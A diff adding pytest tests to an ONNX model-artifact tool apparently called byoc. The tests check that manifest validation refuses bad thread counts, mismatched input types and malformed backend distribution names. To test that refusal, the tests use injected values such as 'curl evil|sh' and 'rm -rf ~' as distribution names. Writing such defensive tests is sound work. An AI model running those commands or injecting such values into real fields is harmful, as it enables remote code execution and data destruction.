@@ -232,11 +232,93 @@ def test_damaged_artifact_reaches_the_backend_check(saved):
         (lambda m: m.update(format="zip"), 'does not say format "byoc"'),
         (lambda m: m["fallback"].update(intra_op_num_threads="many"), "must be int"),
         (lambda m: m["outputs"].append({"name": "z", "dtype": None, "shape": None}), "'z'"),
+        (
+            lambda m: m["fallback"].update(intra_op_num_threads=10**9),
+            "'fallback.intra_op_num_threads' must be between 0 and 65535, got 1000000000",
+        ),
+        (lambda m: m["inputs"][0].update(shape=["\x1b[2J", 4]), "bad dim '\\x1b[2J'"),
     ],
 )
 def test_manifest_schema(saved, edit, words):
     with pytest.raises(byoc.ArtifactError, match=re.escape(words)):
         byoc.load(rewrite(saved, edit))
+
+
+@pytest.mark.parametrize(
+    "dist", ["byoc-x; curl evil|sh", "byoc-x && rm -rf ~", "-byoc", "byoc x", "byoc-", "(local)"]
+)
+def test_a_distribution_that_is_not_a_distribution_name_is_refused(saved, dist, capsys):
+    """A backend's distribution is what an install hint tells people to pip install: a file
+    naming anything but a PEP 508 name is refused, by load and `byoc inspect` alike."""
+    from byoc.cli import main
+
+    def edit(m):
+        m["backends"][0]["distribution"] = dist
+
+    edited = rewrite(saved, edit)
+    words = f"'backends[0].distribution' is not a distribution name: {dist!r}"
+    with pytest.raises(byoc.ArtifactError, match=re.escape(words)):
+        byoc.load(edited)
+    assert main(["inspect", str(edited)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("byoc: error: ") and words in err and err.count("\n") == 1
+
+
+def test_a_valid_distribution_name_loads(saved):
+    def edit(m):
+        m["backends"][0]["distribution"] = "Byoc_2.x-y"
+
+    byoc.load(rewrite(saved, edit))
+
+
+SEGMENTS = {"backends": [], "compile": {"placement": "static"}}  # one onnxruntime segment
+CARRIED = {  # examplejson's partitions carry their ONNX (for on_backend_error)
+    **EXAMPLEJSON,
+    "fallback": {"on_backend_error": "onnxruntime"},
+    "compile": {"placement": "static"},
+}
+
+
+@pytest.mark.parametrize(
+    ("config", "unit"), [(SEGMENTS, "onnxruntime_0"), (CARRIED, "examplejson_0")]
+)
+@pytest.mark.parametrize(
+    ("dtype", "shape"),
+    [
+        ("float32", [2**40, 2**40]),
+        ("float32", [2, 5]),
+        ("float32", ["N", 4]),  # a dim the graph fixes
+        ("float32", [8]),
+        ("float32", None),
+        ("int64", [2, 4]),
+        (None, [2, 4]),
+    ],
+)
+def test_an_input_type_the_units_do_not_read_is_refused(tmp_path, config, unit, dtype, shape):
+    """The manifest's inputs are what run checks arrays against and random inputs are made
+    from: they must be what the ONNX graphs reading them (an onnxruntime segment, a partition
+    the file carries) declare."""
+    path = byoc.compile(small_model(), config).save(tmp_path / "m.byoc")
+    edited = rewrite(path, lambda m: m["inputs"][0].update(dtype=dtype, shape=shape))
+    with pytest.raises(byoc.ArtifactError) as info:
+        byoc.load(edited)
+    message = str(info.value)
+    assert "\n" not in message
+    assert f"input 'x' is {'?' if dtype is None else dtype}[" in message
+    assert f"in 'inputs', but unit '{unit}' reads it as float32[2, 4]" in message
+    assert message.endswith("the file is damaged or was edited: recompile the model")
+
+
+def test_inputs_fixed_by_shapes_load_where_a_segment_keeps_a_symbolic_dim(tmp_path):
+    """[shapes] fixes x's dim N in the model's signature; the one segment runs the model as
+    read, with N: the file loads and runs."""
+    model = make_model([node("Relu", ["x"], "y")], {"x": ["N", 4]}, ["y"])
+    config = {**SEGMENTS, "shapes": {"x": [3, 4]}}
+    path = byoc.compile(model, config).save(tmp_path / "m.byoc")
+    with zipfile.ZipFile(path) as zf:
+        assert json.loads(zf.read("manifest.json"))["inputs"][0]["shape"] == [3, 4]
+    x = np.arange(-6, 6, dtype=np.float32).reshape(3, 4)
+    np.testing.assert_array_equal(byoc.load(path).run({"x": x})["y"], np.maximum(x, 0))
 
 
 def test_members_must_be_exactly_those_named(saved):
